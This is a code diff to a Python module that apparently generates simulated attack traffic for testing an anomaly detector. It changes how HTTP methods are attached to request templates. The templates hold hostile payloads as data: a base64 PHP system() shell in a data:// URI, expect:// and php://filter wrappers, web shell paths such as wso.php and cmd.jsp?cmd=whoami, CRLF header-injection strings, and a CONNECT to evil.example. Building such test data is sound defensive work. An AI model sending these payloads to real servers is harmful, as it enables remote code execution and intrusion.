@@ -6,7 +6,6 @@ from typing import Final
 from urllib.parse import quote
 
 from vedette.schema.anomaly import AnomalyType
-from vedette.simulate.rows import GET, METHODS, POST
 
 # In every text: {n} is a number, {w} a word, {h} a host, {x} hexadecimal digits.
 _WORDS: Final = (
@@ -80,10 +79,9 @@ class Family:
         name: As `--inject` takes it.
         type: What a detector should call it.
         values: Put, encoded, into a parameter of an ordinary route.
-        targets: Whole targets, sent as they are.
+        targets: Whole targets, sent as they are; another method than GET stands before the target.
         agents: Put, as they are, into the user agent of a request for an ordinary page.
         encodings: How values are dressed up.
-        methods: Methods of whole targets.
     """
 
     name: str
@@ -92,7 +90,6 @@ class Family:
     targets: tuple[str, ...] = ()
     agents: tuple[str, ...] = ()
     encodings: tuple[Encoding, ...] = _USUAL
-    methods: tuple[int, ...] = (GET,)
 
 
 _T = AnomalyType
@@ -187,7 +184,7 @@ FAMILIES: Final[tuple[Family, ...]] = (
             "http://{h}/{w}.txt?",
             "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
             "expect://id",
-            "file:///etc/passwd",
+            "php://filter/read=string.rot13/resource={w}.php",
             "phar://uploads/{w}.phar/{w}.php",
             "zip://uploads/{w}.zip%23{w}.php",
         ),
@@ -257,6 +254,8 @@ FAMILIES: Final[tuple[Family, ...]] = (
             "/uploads/r57.php",
             "/images/shell.php?cmd=id",
             "/wp-content/uploads/wso.php",
+            "POST /uploads/wso.php",
+            "POST /images/{w}.php?c={x}",
             "/uploads/cmd.jsp?cmd=whoami",
             "/cmd.aspx?exec=dir",
             "/uploads/b374k.php?p={n}",
@@ -265,7 +264,6 @@ FAMILIES: Final[tuple[Family, ...]] = (
             "/.well-known/shell.php?c=uname+-a",
             "/assets/weevely.php?x={x}",
         ),
-        methods=(GET, GET, POST),
     ),
     Family(
         "sensitive_file",
@@ -297,15 +295,16 @@ FAMILIES: Final[tuple[Family, ...]] = (
         "protocol_violation",
         _T.PROTOCOL_VIOLATION,
         targets=(
-            "http://{h}/{w}",
-            "{h}:443",
+            "GET http://{h}/{w}",
+            "CONNECT evil.example:443",
+            "CONNECT 203.0.113.66:25",
+            "TRACE /",
+            "TRACE /{w}",
             "/%00",
             "/{w}%0d%0aSet-Cookie:%20{w}={n}",
             "/%0d%0aX-Injected:%20{x}",
             "/search?q=%0d%0aLocation:%20http://{h}/",
-            "*",
         ),
-        methods=(GET, METHODS.index(b"TRACE"), METHODS.index(b"CONNECT"), METHODS.index(b"DEBUG")),
     ),
 )
 
